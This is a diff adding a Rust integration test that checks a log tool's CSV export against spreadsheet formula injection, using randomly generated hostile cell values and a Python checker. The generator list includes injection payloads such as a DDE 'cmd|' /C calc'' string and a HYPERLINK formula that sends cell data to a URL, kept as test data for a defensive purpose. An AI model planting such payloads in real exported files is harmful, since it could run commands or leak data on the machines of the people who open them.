@@ -934,6 +934,93 @@ fn csv_export_ends_records_with_crlf() {
     assert!(lines.iter().all(|l| l.ends_with("\r\n")), "records must end with CRLF: {csv:?}");
 }
 
+/// Random hostile values (formula starts, separators, quotes, control and
+/// full-width characters, made by python3 from a seed it prints) go through
+/// the CSV export; python3's csv module reads the file back. By default no
+/// cell may start with a character a spreadsheet runs as a formula, every
+/// cell is quoted, and a neutralised cell is the value behind one `'`; with
+/// `--csv-raw` every cell is the exact value. JSON stays exact either way.
+#[test]
+fn csv_export_never_hands_a_spreadsheet_a_formula() {
+    let env = Env::new();
+    let generator = r#"
+import json, random, sys
+seed = random.randrange(1 << 32); random.seed(seed); print(seed, file=sys.stderr)
+starts = ["=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'", '"', " ", ";", ",", "|", ""]
+parts = ["1+1", "HYPERLINK(\"http://x/?\"&A2,\"y\")", "cmd|' /C calc'!A0", "SUM(A1:A9)", ";=2+2", ",=3", "\t=4",
+         "\"=5", "\r\n-6", "a", "\u00e9", "\U0001f600", "\x00", "\x1b", "\x7f", "\u0085", "\u2028", " "]
+fields = ["user_name", "first_name", "last_name", "tenant", "node", "app_name", "app_context", "action_type",
+          "action_data", "category", "auth_type", "session_id", "detail_level"]
+for i in range(300):
+    rec = {}
+    for f in fields:
+        if random.random() < 0.8:
+            v = random.choice(starts) + "".join(random.choice(parts) for _ in range(random.randrange(4)))
+            if v.strip():
+                rec[f] = v
+    rec.setdefault("app_name", "=App"); rec.setdefault("action_type", "+Act")
+    print(json.dumps(rec))
+"#;
+    let input = python(generator, &[], b"");
+    env.run_with_input(&["append", "--json", "-"], input.as_bytes()).success();
+    let json = env.run(&["export", "--format", "json"]).success().stdout;
+    let safe = env.dir.path().join("safe.csv");
+    let raw = env.dir.path().join("raw.csv");
+    let exact = env.dir.path().join("exact.jsonl");
+    std::fs::write(&exact, &json).unwrap();
+    env.run(&["export", "--format", "csv", "--out", safe.to_str().unwrap()]).success();
+    env.run(&["export", "--format", "csv", "--csv-raw", "--out", raw.to_str().unwrap()]).success();
+    let run = env.run(&["export", "--format", "json", "--csv-raw"]).failure();
+    assert!(run.stderr.contains("--csv-raw"), "{}", run.stderr);
+    let check = r#"
+import csv, json, sys
+safe, raw, exact = sys.argv[1:4]
+formula = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+records = [json.loads(l) for l in open(exact, encoding="utf-8")]
+def rows(path):
+    with open(path, newline="", encoding="utf-8") as f:
+        return list(csv.reader(f, strict=True))
+s, r = rows(safe), rows(raw)
+assert len(s) == len(r) == len(records) + 1, (len(s), len(r), len(records))
+header = s[0]
+assert header == r[0]
+starts = 0
+for rec, srow, rrow in zip(records, s[1:], r[1:]):
+    assert len(srow) == len(rrow) == len(header), srow
+    for name, sv, rv in zip(header, srow, rrow):
+        want = str(rec.get(name, ""))
+        assert rv == want, ("--csv-raw", rec["id"], name, rv, want)
+        assert not sv.startswith(formula), ("formula cell", rec["id"], name, sv)
+        if want.startswith(formula):
+            starts += 1
+            assert sv == "'" + want, (rec["id"], name, sv, want)
+        else:
+            assert sv == want, (rec["id"], name, sv, want)
+assert starts > 300, starts
+# Every cell of the default export is quoted: a spreadsheet that splits on ';'
+# or tab still sees one cell per value.
+text = open(safe, encoding="utf-8", newline="").read()
+i, cells = 0, 0
+while i < len(text):
+    assert text[i] == '"', ("unquoted cell", text[i:i + 40])
+    i += 1
+    while True:
+        j = text.index('"', i)
+        if text[j + 1:j + 2] == '"':
+            i = j + 2
+        else:
+            i = j + 1
+            break
+    cells += 1
+    assert text[i:i + 1] == "," or text[i:i + 2] == "\r\n", text[i:i + 40]
+    i += 1 if text[i] == "," else 2
+assert cells == len(s) * len(header), (cells, len(s))
+print(starts)
+"#;
+    let out = python(check, &[&safe, &raw, &exact], b"");
+    assert!(out.trim().parse::<u32>().is_ok(), "{out}");
+}
+
 // ---------------------------------------------------------------------------
 // 7. Archived (.xml.gz) files are part of the history
 // ---------------------------------------------------------------------------
